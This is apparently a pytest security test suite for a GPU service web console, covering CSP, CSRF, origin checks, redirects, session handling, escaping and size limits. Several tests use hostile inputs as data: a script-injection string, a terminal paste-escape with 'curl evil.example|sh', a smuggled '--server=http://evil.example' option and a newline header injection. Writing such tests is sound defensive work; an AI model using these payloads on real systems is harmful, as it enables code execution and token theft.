"""Attack: other sites, other people and hostile texts against the console."""

import contextlib
import html
import re
import shlex
import socket
import uuid
from collections.abc import Callable
from typing import Any

import httpx
import oidc_provider
import pytest
from clouds import until
from gpuaas_cli import flags
from gpuaas_console import forms, sessions, web
from seeded import Console

LAB = "PROJECT/instances/lab"
HOSTILE = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'"
Visitor = Callable[[], Any]


@pytest.mark.parametrize("path", ["/", "/sign-in", "/nothing", "/static/console.css", "/static/nothing", "/healthz"])
def test_every_answer_forbids_foreign_scripts_frames_and_guessing_of_types(visitor: Visitor, path: str) -> None:
    headers = visitor().get(path).headers
    policy = dict(rule.split(" ", 1) for rule in headers["content-security-policy"].split("; "))
    assert policy == {
        **dict.fromkeys(("default-src", "base-uri", "frame-ancestors"), "'none'"),
        **dict.fromkeys(("script-src", "style-src", "img-src", "connect-src", "form-action"), "'self'"),
    }
    assert headers["x-frame-options"] == "DENY"
    assert headers["x-content-type-options"] == "nosniff"


def test_a_page_has_no_script_or_style_of_its_own(admin: Any, failed_add: str) -> None:
    for path in ("/", LAB, f"PROJECT/operations/{failed_add}", f"{LAB}/act?verb=stop", "PROJECT/catalog"):
        page = admin.page(path)
        assert "<style" not in page
        assert " style=" not in page
        assert " onclick=" not in page
        assert page.count("<script") == page.count('<script src="/static/')


def test_a_form_without_the_token_of_its_session_is_refused(admin: Any, visitor: Visitor, console: Console) -> None:
    other = visitor()
    other.sign_in("admin", console.server.password)
    given = {"verb": "stop", "step": "do", "reason": "x", "confirm": "lab", "key": uuid.uuid4().hex}
    for token in ("", "guess", other.csrf):
        refused = admin.http.post(admin.path(f"{LAB}/act"), data={**given, "csrf": token})
        assert refused.status_code == 403
    for path in ("/sessions", "/sign-out", f"{LAB}/actions/greet"):
        assert admin.http.post(admin.path(path), data={"in.name": "ada"}).status_code == 403
    assert console.cli("get", "instance", "lab", "-o", "json").json["status"] in ("running", "degraded")


@pytest.mark.parametrize("content", ["a=1&" * 5000, "a=" + "1" * 300_000], ids=["fields", "bytes"])
def test_a_form_that_is_too_large_is_refused_with_a_page(admin: Any, content: str) -> None:
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    refused = admin.http.post("/sessions", content=content, headers=headers)
    assert refused.status_code == 413
    assert "The form is too large" in refused.text


def test_a_form_of_another_site_is_refused_also_with_the_right_token(admin: Any) -> None:
    data = {"csrf": admin.csrf, "verb": "drain", "step": "check"}
    path = admin.path(f"{LAB}/act")
    for origin in ("https://evil.example", "null", f"{admin.http.base_url}.evil.example"):
        assert admin.http.post(path, data=data, headers={"Origin": origin}).status_code == 403
    own = str(admin.http.base_url).rstrip("/")
    assert admin.http.post(path, data=data, headers={"Origin": own}).status_code != 403


def test_another_site_cannot_sign_a_browser_in(visitor: Visitor, console: Console) -> None:
    person = visitor()
    given = {"name": "admin", "password": console.server.password, "csrf": "guess"}
    assert person.http.post("/sign-in", data=given).status_code == 403
    person.get("/sign-in")
    assert person.http.post("/sign-in", data=given).status_code == 403


@pytest.mark.parametrize("target", ["https://evil.example", "//evil.example", "/\\evil.example"])
def test_a_sign_in_leads_to_no_other_site(visitor: Visitor, console: Console, target: str) -> None:
    assert 'name="next" value="/"' in visitor().page("/sign-in", next=target)
    answer = visitor().sign_in("admin", console.server.password, next=target)
    assert answer.headers["location"] == "/"


def test_a_session_that_the_browser_brings_is_not_used(visitor: Visitor, console: Console) -> None:
    person = visitor()
    person.http.cookies.set("gpuaas-console", "chosen-by-an-attacker")
    assert person.get("/").status_code == 303
    person.sign_in("admin", console.server.password)
    values = [cookie.value for cookie in person.http.cookies.jar if cookie.name == "gpuaas-console"]
    assert "chosen-by-an-attacker" not in values[-1:]
    attacker = httpx.get(f"{console.url}/", cookies={"gpuaas-console": "chosen-by-an-attacker"}, trust_env=False)
    assert attacker.status_code == 303


def test_a_second_sign_in_ends_the_first_session(admin: Any, console: Console) -> None:
    before = dict(admin.http.cookies)
    admin.sign_in("admin", console.server.password)
    assert dict(admin.http.cookies) != before
    assert httpx.get(f"{console.url}/", cookies=before, trust_env=False).status_code == 303


@pytest.mark.parametrize("sends_strict_cookies", [False, True], ids=["a browser", "another client"])
def test_a_sign_in_through_the_identity_provider_ends_the_session_before(
    admin: Any, console: Console, sends_strict_cookies: bool
) -> None:
    """A browser that comes from the provider's site does not send the strict cookie of the session."""
    before = dict(admin.http.cookies)
    admin.get("/sign-in")
    page = admin.post("/sign-in/provider").text
    url = re.search(r'class="button" href="([^"]+)"', page)
    assert url
    assert httpx.get(f"{console.url}/", cookies=before, trust_env=False).status_code == 200, "it can still fail"
    if not sends_strict_cookies:
        admin.http.cookies.delete("gpuaas-console")
    answer = oidc_provider.sign_in(html.unescape(url[1]), "kim@example.com")
    assert "Signed in" in admin.page("/signed-in", **answer)
    assert httpx.get(f"{console.url}/", cookies=before, trust_env=False).status_code == 303
    assert "You can see no project yet" in admin.page("/")


def test_the_cookie_is_for_this_site_and_not_for_scripts(visitor: Visitor, console: Console) -> None:
    answer = visitor().sign_in("admin", console.server.password)
    (cookie,) = [value for value in answer.headers.get_list("set-cookie") if value.startswith("gpuaas-console=")]
    assert "HttpOnly" in cookie
    assert "SameSite=strict" in cookie
    assert "Path=/" in cookie


def test_the_sign_out_removes_the_pages_that_the_browser_stored(admin: Any) -> None:
    assert admin.post("/sign-out").headers["clear-site-data"] == '"cache"'


def test_a_page_about_a_failure_is_not_stored_by_the_browser(admin: Any) -> None:
    failed = admin.get("PROJECT/instances/nothing-has-this-name")
    assert (failed.status_code, failed.headers["cache-control"]) == (404, "no-store")


def test_a_name_that_did_not_sign_in_is_shown_as_text(visitor: Visitor) -> None:
    page = visitor().sign_in(HOSTILE, "wrong").text
    assert 'value="&lt;script&gt;alert(1)' in page
    assert "<script>alert" not in page


def test_the_token_of_the_platform_is_on_no_page_and_in_no_log(visitor: Visitor, console: Console) -> None:
    token, person = console.token(), visitor()
    path = console.link(token).removeprefix(console.url)
    person.get(path)
    person.post(path)
    for page in ("/", "/sessions", LAB, f"{LAB}/act?verb=stop", "PROJECT/catalog/demo/1.0.0/deploy"):
        assert token not in person.page(page)
    assert path.rpartition("/")[2] not in console.log.read_text()
    assert token not in console.log.read_text()


def test_hostile_texts_are_shown_as_text_everywhere(admin: Any, console: Console) -> None:
    """In reasons, results of actions, inputs, names in addresses, filters, and errors."""
    greeted = admin.post(f"{LAB}/actions/greet", **{"in.name": HOSTILE}, reason=HOSTILE, key=uuid.uuid4().hex)
    drained = console.cli("member", "drain", "lab", "gpu-2", "--reason", HOSTILE, "--detach")
    console.cli("op", "wait", drained.out.strip())
    correlation = console.cli("get", "operation", drained.out.strip(), "-o", "json").json["correlation_id"]
    pages = [
        greeted,
        admin.get(f"PROJECT/operations/{drained.out.strip()}"),
        admin.get(LAB),
        admin.get("/", q=HOSTILE, project=HOSTILE, status=HOSTILE),
        admin.get("PROJECT/triage", correlation_id=correlation),
        admin.get("PROJECT/policy", region=HOSTILE, permission=HOSTILE),
        admin.get("PROJECT/records/events", q="gpu"),
        admin.get("PROJECT/records/operations", q=HOSTILE),
        admin.get(f"{LAB}/act", verb="drain", reason=HOSTILE, member=HOSTILE),
        admin.get(f"{LAB}/act", verb=HOSTILE),
        admin.get("PROJECT/instances/%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        admin.get("PROJECT/records/%3Cscript%3Ealert(1)"),
    ]
    console.cli("member", "resume", "lab", "gpu-2")
    assert "&lt;script&gt;alert(1)" in pages[0].text
    assert "&lt;script&gt;alert(1)" in pages[1].text
    for page in pages:
        assert "<script>alert" not in page.text, page.url
        assert "<img" not in page.text, page.url


def test_a_form_that_is_too_large_is_refused(admin: Any) -> None:
    answer = admin.http.post(admin.path(f"{LAB}/act"), data={"csrf": admin.csrf, "reason": "x" * 300_000})
    assert answer.status_code == 413


def test_one_person_s_many_sign_ins_end_their_own_oldest_session_and_no_other(
    visitor: Visitor, admin: Any, console: Console
) -> None:
    console.cli("user", "create", "mallory", "--password", given="correct horse battery\n")
    mallory = [visitor() for _ in range(sessions.PER_PERSON_MAX + 1)]
    for person in mallory:
        assert person.sign_in("mallory", "correct horse battery").status_code == 303
    assert [person.get("/").status_code for person in mallory] == [303] + [200] * sessions.PER_PERSON_MAX
    assert admin.get("/").status_code == 200


def test_one_person_cannot_open_streams_without_end(admin: Any, visitor: Visitor, console: Console) -> None:
    path = admin.path(f"{LAB}/stream")
    other = visitor()
    other.sign_in("admin", console.server.password)
    with contextlib.ExitStack() as streams:
        reading = []  # httpx closes a stream whose reader is gone
        for person in (admin, other):
            for _ in range(web.STREAMS_PER_PERSON_MAX // 2):
                answer = streams.enter_context(person.http.stream("GET", path))
                reading.append(answer.iter_lines())
                assert next(reading[-1])
        with admin.http.stream("GET", path) as refused:
            assert refused.status_code == 429
            assert "too many open pages" in refused.read().decode()
    until(lambda: status_of_stream(admin, path) == 200, "closed streams do not count")


def status_of_stream(person: Any, path: str) -> int:
    with person.http.stream("GET", path) as answer:
        return int(answer.status_code)


def test_a_stream_ends_with_the_session(visitor: Visitor, console: Console) -> None:
    person = visitor()
    person.sign_in("admin", console.server.password)
    with person.http.stream("GET", person.path(f"{LAB}/stream")) as answer:
        lines = answer.iter_lines()
        assert next(lines)
        assert person.post("/sign-out").status_code == 303
        assert ": keep" not in lines, "the stream continued"


def test_a_command_to_copy_has_no_control_characters_of_a_link(admin: Any) -> None:
    """People trust the console, and anyone can send them a link to it. In a terminal, these characters end a paste."""
    page = admin.page(f"{LAB}/act", verb="stop", reason="\x1b[201~\rcurl evil.example|sh\r")
    lines = [html.unescape(text) for text in re.findall(r'data-copy="([^"]*)" aria-label="Copy as c', page)]
    assert len(lines) == 2
    assert "evil.example" in lines[0]
    assert shlex.split(lines[0])[-3] == "\ufffd[201~\ufffdcurl evil.example|sh"
    assert all(line.isprintable() for line in lines)


SERVER = "--server=http://evil.example"
"""The command line sends the token of the environment to the server of this option, wherever it is in the line."""
LINKS = {
    "a member": (f"{LAB}/act", {"verb": "drain", "member": SERVER}),
    "a machine": (f"{LAB}/act", {"verb": "add", "machine": SERVER}),
    "a role": (f"{LAB}/act", {"verb": "add", "role": SERVER}),
    "a version": (f"{LAB}/act", {"verb": "upgrade", "version": SERVER}),
    "a reason": (f"{LAB}/act", {"verb": "stop", "reason": SERVER}),
    "a field": ("PROJECT/change/cordon-node", {"target": "gpu-1", "in.reason": SERVER}),
    "a target": ("PROJECT/change/revoke-role", {"target": SERVER}),
    "a permission": ("PROJECT/policy", {"permission": SERVER}),
    "a region": ("PROJECT/policy", {"region": SERVER}),
    "an action": ("PROJECT/records/audit", {"action": SERVER}),
}
"""Where a link puts a text into a command line -> the page and its query."""


@pytest.mark.parametrize("place", LINKS)
def test_a_command_to_copy_goes_to_no_other_server(admin: Any, place: str) -> None:
    path, query = LINKS[place]
    assert_stays(admin.page(path, **query))


def test_a_command_to_copy_has_a_correlation_id_only_as_an_argument(admin: Any, console: Console) -> None:
    """Programs choose correlation ids: each printable text is one."""
    headers = {"X-Correlation-ID": SERVER, "X-Idempotency-Key": uuid.uuid4().hex}
    headers["Authorization"] = f"Bearer {console.token()}"
    where = f"{console.server.url}/api/v1/projects/{console.project_id}/service-accounts"
    created = httpx.post(where, json={"name": "baited"}, headers=headers, trust_env=False)
    assert created.status_code == 201, created.text
    assert_stays(admin.page("PROJECT/triage", correlation_id=SERVER))


def assert_stays(page: str) -> None:
    """Each command line of a page that has the hostile text has it as a text, and not as an option."""
    lines = [html.unescape(text) for text in re.findall(r'data-copy="(gpuaas [^"]*)"', page)]
    hostile = [line for line in lines if SERVER in line]
    assert hostile
    assert [flags.take(shlex.split(line)[1:])[0].server for line in hostile] == [""] * len(hostile)


def test_a_link_cannot_choose_the_version_that_a_form_replaces(admin: Any) -> None:
    """The etag guards the change of someone else, and it is a header of the call to copy."""
    page = admin.page("PROJECT/change/set-policy", etag="guess\nX-Other: header")
    assert "guess\nX-Other" not in page
    assert 'name="etag" value="guess' not in page


def test_a_link_with_a_value_that_is_nested_too_deep_opens_the_form(admin: Any) -> None:
    page = admin.page("PROJECT/change/set-policy", **{"in.regions": "[" * 500 + "]" * 500})
    assert "Regions" in page
    deep = admin.post("PROJECT/change/set-policy", step="check", **{"in.regions": "[" * 500 + "]" * 500})
    assert (deep.status_code, "This JSON is nested too deep" in deep.text) == (400, True)


def test_a_result_that_has_rows_but_no_declared_columns_is_shown(admin: Any) -> None:
    page = admin.post(f"{LAB}/actions/greet", step="do", key=uuid.uuid4().hex, **{"in.name": "everybody"})
    assert page.status_code == 200
    assert "<dt>rows</dt><dd>ada, bob</dd>" in page.text
    operation = re.search(r'href="(/p/[^"]+)">open the operation', page.text)
    assert operation
    assert "ada, bob" in admin.page(operation[1])


def test_a_header_without_an_end_is_refused(console: Console) -> None:
    """It is read before the person is known, so it would fill the memory."""
    address = httpx.URL(console.url)
    with socket.create_connection((address.host, address.port), timeout=60) as connection:
        connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"x" * 200_000)
        assert connection.recv(100).startswith(b"HTTP/1.1 400 ")


HARD_TO_READ = {
    "too deep": ("json", "[" * 100_000),
    "no text": ("json", '"\\ud800"'),
    "no number of JSON": ("json", '{"a": NaN}'),
    "no number": ("number", "nan"),
    "endless": ("number", "1e999"),
}


@pytest.mark.parametrize("case", HARD_TO_READ)
def test_a_value_that_cannot_be_sent_is_an_error_at_its_field(case: str) -> None:
    kind, text = HARD_TO_READ[case]
    schema = {"type": "object", "properties": {"x": {"type": "object" if kind == "json" else kind}}}
    inputs, errors = forms.read(schema, web.Form({"in.x": [text]}))
    assert inputs == {}
    assert list(errors) == ["x"]


def test_a_form_with_too_many_fields_or_with_a_number_out_of_range_is_refused_and_no_failure_of_the_console(
    admin: Any,
) -> None:
    path, fields = admin.path(f"{LAB}/act"), {f"f{number}": "" for number in range(6000)}
    many = admin.http.post(path, data={"csrf": admin.csrf, **fields})
    assert (many.status_code, "too large" in many.text) == (413, True)
    given = {"in.name": "ada", "in.times": "1" + "0" * 40}
    large = admin.post(f"{LAB}/actions/greet", **given, key=uuid.uuid4().hex)
    assert large.status_code == 400


@pytest.mark.parametrize("path", ["/sessions", "PROJECT/catalog", "PROJECT/records/nodes", f"{LAB}/actions/greet"])
def test_a_page_without_a_live_part_is_sent_whole_to_a_script(admin: Any, path: str) -> None:
    assert admin.http.get(admin.path(path), headers={"HX-Request": "true"}).status_code == 200


@pytest.mark.parametrize("name", ["cordon-node", "trust-key", "entitle-app"])
def test_a_change_without_the_name_of_what_it_changes_is_refused(admin: Any, name: str) -> None:
    answer = admin.post(f"PROJECT/change/{name}", step="do", target="")
    assert answer.status_code == 400
    assert "does not name what to change" in answer.text


@pytest.mark.parametrize(
    ("kind", "before"),
    [
        pytest.param("events", "9" * 5000, id="events-long"),
        ("events", "99999999999999999999"),
        ("events", "-1"),
        ("usage", "0001-01-01T00:00:00Z"),
        ("usage", "9999-12-31T23:59:59-12:00"),
        ("usage", "tomorrow"),
    ],
)
def test_a_position_in_a_list_that_does_not_exist_is_refused(admin: Any, kind: str, before: str) -> None:
    answer = admin.get(f"PROJECT/records/{kind}", before=before)
    assert answer.status_code == 400
    assert "Open the list again" in answer.text
